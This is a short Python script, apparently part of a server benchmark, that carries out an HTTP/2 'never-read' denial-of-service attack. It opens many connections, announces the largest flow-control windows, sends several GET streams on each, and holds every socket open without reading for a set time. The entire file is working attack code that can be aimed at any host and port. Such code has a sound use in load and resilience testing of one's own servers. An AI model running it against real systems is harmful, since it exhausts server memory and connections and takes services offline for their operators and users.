"""The HTTP/2 never-read attack, for bench/h2_never_read.sh: CONNECTIONS connections, each
announcing the largest flow-control windows and opening STREAMS requests for PATH, then
holding the connection without reading a byte for SECONDS. Framing by the `h2` package
(pip); the socket is plain, so nothing ever reads what the server sends."""

import socket
import sys
import time

import h2.config
import h2.connection
import h2.settings

host, port, path, connections, streams, seconds = (
    sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
)
MAX_WINDOW = 2**31 - 1

held = []
for _ in range(connections):
    sock = socket.create_connection((host, port))
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: MAX_WINDOW})
    conn.increment_flow_control_window(MAX_WINDOW - 65535)
    for _ in range(streams):
        stream_id = conn.get_next_available_stream_id()
        conn.send_headers(
            stream_id,
            [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", f"{host}:{port}")],
            end_stream=True,
        )
    sock.sendall(conn.data_to_send())
    held.append(sock)
print(f"holding {len(held)} connections x {streams} streams", flush=True)
time.sleep(seconds)
